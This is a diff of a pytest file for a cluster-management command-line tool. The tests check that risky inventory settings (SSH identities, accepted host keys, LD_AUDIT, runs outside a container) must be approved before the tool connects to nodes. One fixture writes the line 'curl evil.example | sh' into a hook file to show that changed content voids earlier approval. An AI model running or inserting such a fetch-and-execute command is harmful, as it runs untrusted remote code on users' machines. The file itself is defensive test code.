@@ -566,11 +566,15 @@ OWN = {
     "permit: {mounts: ['/data:rw'], secrets: [A]}": "permit     mounts: /data:rw",
     "ssh: {identity: ~/id}": "identity   ~/id",
     "ssh: {jump: 'root@127.0.0.1:PORT'}": "jump       root@127.0.0.1:PORT",
-    "ssh: {known_hosts: ~/kh, host_keys: accept-new}": "known_hosts ~/kh (accept-new)",
+    "api: {key: {file: ~/.config/sparkcluster/another.key}}": "api.key    ~/.config/sparkcluster/another.key",
+    "ssh: {known_hosts: ~/kh}": "known_hosts ~/kh",
+    "ssh: {host_keys: accept-new}": "host_keys  accept-new: unknown keys of 127.0.0.1",
+    "runtime: {kind: process, python: /proc/self/cwd/x}": "runtime    /proc/self/cwd/x on the nodes, without a container",
+    "ignore: [HOST-003, NET-020]": "ignore     NET-020",
 }
 NOT_ASKED = """\
 api: {key: {file: ~/.config/sparkcluster/c.key}}
-ssh: {known_hosts: ~/kh, user: nvidia}
+ssh: {known_hosts: ~/.ssh/others, user: nvidia}
 hf_home: /data/hf
 """
 
@@ -595,7 +599,7 @@ def test_what_an_inventory_asks_for_is_shown_and_accepted_once(
 def test_variables_of_a_node_are_asked_about_unless_they_only_tune(tmp_path: Path, run: Run) -> None:
     path = inventory(tmp_path, None)
     path.write_text(path.read_text().replace("name: a,", "name: a, env: {LD_AUDIT: /x, NCCL_DEBUG: INFO},"))
-    assert run("lint", path).out.endswith("asks for (up asks once):\n  env        LD_AUDIT=/x\n")
+    assert run("lint", path).out.endswith("asks for (asked once):\n  env        LD_AUDIT=/x\n")
 
 
 def test_lines_of_an_inventory_are_accepted_and_not_its_file(tmp_path: Path, run: Run, up: Run, node: Node) -> None:
@@ -613,19 +617,37 @@ def test_lines_of_an_inventory_are_accepted_and_not_its_file(tmp_path: Path, run
     # the same words may be another program there
     elsewhere = up(written(lines, directory=tmp_path / "elsewhere"))
     assert (elsewhere.code, "permit" in elsewhere.err) == (2, False)
+    # and with another content of a file that they name
+    (tmp_path / "hook").write_text("curl evil.example | sh")
+    assert up(written(lines)).code == 2
 
 
-@pytest.mark.parametrize(
-    "words", [("stage",), ("upgrade", "--resume"), ("rollback",), ("restart",), ("enable",), ("preflight", "--deep")]
-)
-def test_whatever_starts_something_asks_about_the_inventory_before_it_connects(
-    tmp_path: Path, run: Run, node: Node, words: tuple[str, ...]
-) -> None:
+CONNECTING = """\
+up stage upgrade upgrade--resume upgrade--dry-run rollback restart enable disable preflight preflight--deep status
+plan doctor down logs ask=Hello releases connect setup--dry-run models
+"""
+
+
+@pytest.mark.parametrize("command", CONNECTING.split())
+def test_whatever_connects_asks_about_the_inventory_before(tmp_path: Path, run: Run, node: Node, command: str) -> None:
+    words = command.replace("--", " --").replace("=", " ").split()
     (tmp_path / "id").write_text("x")
     path = inventory(tmp_path, None, port=node.server_address[1], more="ssh: {identity: ~/id}\n")
     refused = run(words[0], path, *words[1:])
     assert (refused.code, node.contacts) == (2, 0), refused
-    assert "identity" in refused.err
+    assert "not accepted yet: identity" in refused.err
+    accepted = run("preflight", path, "--yes")
+    assert "not accepted" not in accepted.err
+    assert node.contacts
+
+
+def test_a_bundled_playbook_that_runs_code_of_its_model_is_asked_about_where_no_container_holds_it(
+    tmp_path: Path, up: Run, node: Node
+) -> None:
+    path = inventory(tmp_path, None, port=node.server_address[1], more="runtime: {kind: process}\n")
+    refused = up(path)
+    assert (refused.code, "trust-remote-code" in refused.err) == (2, True), refused
+    assert up(path, "--yes").code == 1
 
 
 def test_a_token_of_another_account_is_no_api_key(tmp_path: Path, run: Run) -> None:
